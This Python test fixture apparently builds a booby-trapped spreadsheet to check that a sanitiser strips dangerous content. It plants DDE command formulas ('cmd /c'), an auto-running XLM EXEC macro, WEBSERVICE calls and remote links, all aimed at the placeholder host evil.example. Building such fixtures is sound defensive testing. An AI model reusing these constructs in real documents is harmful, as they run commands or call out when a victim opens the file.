"""A filer's workbook with everything hung on it that starts, fetches or opens something: what must not be passed on."""

import re

from tests.office.sheets.drawn_parts import parts_of, sheet_part
from toolkit.office.opc import zipped

RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OFFICE = "http://schemas.microsoft.com/office/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
SECRET = (
    b"evil.example"  # in every one of the parts, links and formulas below; wherever it is left, something was passed
)
LINK = (
    f'<externalLink xmlns="{MAIN}"><ddeLink xmlns:r="{RELATED}" ddeService="cmd" ddeTopic="/c evil.example">'
    "<ddeItems><ddeItem name='A1' advise='1'/></ddeItems></ddeLink></externalLink>"
)
MACRO_SHEET = (
    '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'
    f' xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><f>EXEC("evil.example")</f></c></row></sheetData></xm:macrosheet>'
)
PICTURE = (
    "<xdr:oneCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row>"
    '<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="9" cy="9"/><xdr:pic macro="{macro}"><xdr:nvPicPr>'
    '<xdr:cNvPr id="{id}" name="{name}">{click}</xdr:cNvPr><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill>'
    '<a:blip {blip}/></xdr:blipFill><xdr:spPr><a:prstGeom prst="rect"/></xdr:spPr></xdr:pic><xdr:clientData/>'
    "</xdr:oneCellAnchor>"
)
DRAWN = (
    f'<xdr:wsDr xmlns:xdr="{DRAWING}/spreadsheetDrawing" xmlns:a="{DRAWING}/main" xmlns:r="{RELATED}">'
    + PICTURE.format(macro="", id=2, name="公章", click='<a:hlinkClick r:id="web"/>', blip='r:embed="own"')
    + PICTURE.format(macro="", id=3, name="evil.example", click="", blip='r:link="far"')
    + PICTURE.format(macro="[1]!evil.example", id=4, name="按钮", click="", blip='r:embed="own"')
    + "</xdr:wsDr>"
)
BOX = (
    '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="a" href="http://evil.example"><v:imagedata'
    ' src="//evil.example/a.png"/><br></v:shape></xml>'
)
COMMENTS = f'<comments xmlns="{MAIN}"><authors><author>甲</author></authors><commentList>{{}}</commentList></comments>'
NOTE = '<comment ref="B5" authorId="0"><text><t>问过司法所</t></text></comment>'
CELLS = {  # what a cell of the first table's sheet holds beside what it showed, by its reference
    "T1": "cmd|'/c evil.example'!A0", "T2": "[1]Sheet!A1", "T3": 'HYPERLINK("http://evil.example","看")',
    "T4": '_xlfn.WEBSERVICE("http://evil.example")', "T5": "'\\\\evil.example\\[a.xlsx]b'!A1",
    "T6": 'DDE("cmd","/c","evil.example")',
}  # fmt: skip
AFTER = (
    '<conditionalFormatting sqref="T9"><cfRule type="expression" priority="99"><formula>[1]evil.example!A1=1</formula>'
    "</cfRule></conditionalFormatting>"
)
LINKS = (
    f'<hyperlinks xmlns:r="{RELATED}"><hyperlink ref="T1" r:id="web"/><hyperlink ref="T2" location="T1"/></hyperlinks>'
)
HELD = (
    f'<drawing xmlns:r="{RELATED}" r:id="drawn"/><legacyDrawing xmlns:r="{RELATED}" r:id="box"/>'
    f'<oleObjects xmlns:r="{RELATED}"><oleObject progId="Package" shapeId="1" r:id="ole"/></oleObjects>'
    f'<controls xmlns:r="{RELATED}"><control shapeId="1" r:id="activex"/></controls>'
)
OF_SHEET = {
    "drawn": (f"{RELATED}/drawing", "/xl/drawings/drawing9.xml"),
    "box": (f"{RELATED}/vmlDrawing", "/xl/drawings/box.vml"),
    "notes": (f"{RELATED}/comments", "/xl/comments9.xml"),
    "ole": (f"{RELATED}/oleObject", "/xl/embeddings/oleObject1.bin"),
    "package": (f"{RELATED}/package", "/xl/embeddings/book.xlsx"),
    "activex": (f"{RELATED}/control", "/xl/activeX/activeX1.xml"),
    "query": (f"{RELATED}/queryTable", "/xl/queryTables/queryTable1.xml"),
    "printer": (f"{RELATED}/printerSettings", "/xl/printerSettings/p.bin"),
    "web": (f"{RELATED}/hyperlink", "http://evil.example"),
}
OF_BOOK = {
    "vba": (f"{OFFICE}/vbaProject", "/xl/vbaProject.bin"),
    "link": (f"{RELATED}/externalLink", "/xl/externalLinks/externalLink1.xml"),
    "connect": (f"{RELATED}/connections", "/xl/connections.xml"),
    "xml": (f"{RELATED}/customXml", "/customXml/item1.xml"),
    "bars": (f"{OFFICE}/attachedToolbars", "/xl/attachedToolbars.bin"),
    "macro": (f"{OFFICE}/xlMacrosheet", "/xl/macrosheets/sheet1.xml"),
    "far": (f"{RELATED}/styles", "http://evil.example/styles.xml"),
}
OF_PACKAGE = {
    "ui": ("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "/customUI/customUI14.xml"),
    "panes": (
        "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
        "/xl/webextensions/p.xml",
    ),
}
OF_DRAWING = {
    "own": (f"{RELATED}/image", "/xl/media/own.png"),
    "web": (f"{RELATED}/hyperlink", "http://evil.example"),
    "far": (f"{RELATED}/image", "http://evil.example/a.png"),
}
PNG = b"\x89PNG\r\n\x1a\n"


def hostile(workbook: bytes, sheet: str) -> bytes:
    """All of it on one sheet of a filer's workbook, with a comment, a picture and a link that are his own."""
    parts = parts_of(workbook)
    part = sheet_part(workbook, sheet)
    for name in (
        "xl/vbaProject.bin",
        *(to[1:] for _, to in (*OF_SHEET.values(), *OF_BOOK.values(), *OF_PACKAGE.values())),
    ):
        if not name.startswith("ttp"):
            parts[name] = SECRET
    parts |= {
        "xl/drawings/drawing9.xml": DRAWN.encode(), "xl/drawings/box.vml": BOX.encode(), "xl/media/own.png": PNG,
        "xl/comments9.xml": COMMENTS.format(NOTE).encode(), "xl/externalLinks/externalLink1.xml": LINK.encode(),
        "xl/macrosheets/sheet1.xml": MACRO_SHEET.encode(),
    }  # fmt: skip
    parts[part] = _sheet(parts[part].decode())
    parts["xl/workbook.xml"] = _book(parts["xl/workbook.xml"].decode())
    for name, added in (
        (_rels(part), OF_SHEET), ("xl/_rels/workbook.xml.rels", OF_BOOK), ("_rels/.rels", OF_PACKAGE),
        ("xl/drawings/_rels/drawing9.xml.rels", OF_DRAWING),
    ):  # fmt: skip
        parts[name] = _related(parts.get(name, b""), added)
    types = parts["[Content_Types].xml"].decode()
    types = re.sub(r'(?<=PartName="/xl/workbook.xml" ContentType=")[^"]*', MACROS, types)
    extra = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    parts["[Content_Types].xml"] = types.replace("</Types>", f"{extra}</Types>").encode()
    return zipped(parts)


def _rels(part: str) -> str:
    folder, _, name = part.rpartition("/")
    return f"{folder}/_rels/{name}.rels"


def _related(there: bytes, added: dict[str, tuple[str, str]]) -> bytes:
    new = "".join(
        f'<Relationship Id="{id}" Type="{type}" Target="{target}"'
        f"{'' if target.startswith('/') else ' TargetMode=' + chr(34) + 'External' + chr(34)}/>"
        for id, (type, target) in added.items()
    )
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    return (there or empty).replace(b"</Relationships>", f"{new}</Relationships>".encode())


def _sheet(xml: str) -> bytes:
    rows = "".join(
        f'<row r="{900 + number}"><c r="{ref[0]}{900 + number}" t="str"><f>{formula}</f><v>看到的{number}</v></c></row>'
        for number, (ref, formula) in enumerate(CELLS.items())
    )
    xml = xml.replace("</sheetData>", f"{rows}</sheetData>")
    first = re.search("<(conditionalFormatting|dataValidations|printOptions|pageMargins)", xml)
    assert first
    xml = xml[: first.start()] + AFTER + xml[first.start() :]
    before = re.search("<(printOptions|pageMargins)", xml)
    assert before
    xml = xml[: before.start()] + LINKS + xml[before.start() :]
    return xml.replace("</worksheet>", f"{HELD}</worksheet>").encode()


def _book(xml: str) -> bytes:
    xml = re.sub("(<sheets>)", rf'\1<sheet xmlns:r="{RELATED}" name="宏表" sheetId="99" r:id="macro"/>', xml)
    xml = re.sub(r'localSheetId="(\d+)"', lambda found: f'localSheetId="{int(found.group(1)) + 1}"', xml)
    names = (
        '<definedName name="Auto_Open" xlm="1">EXEC("evil.example")</definedName>'
        "<definedName name=\"zzz\">cmd|'/c evil.example'!A0</definedName>"
    )
    xml = xml.replace("</definedNames>", f"{names}</definedNames>")
    outside = f'<externalReferences><externalReference xmlns:r="{RELATED}" r:id="link"/></externalReferences>'
    return xml.replace("<definedNames>", f"{outside}<definedNames>").encode()
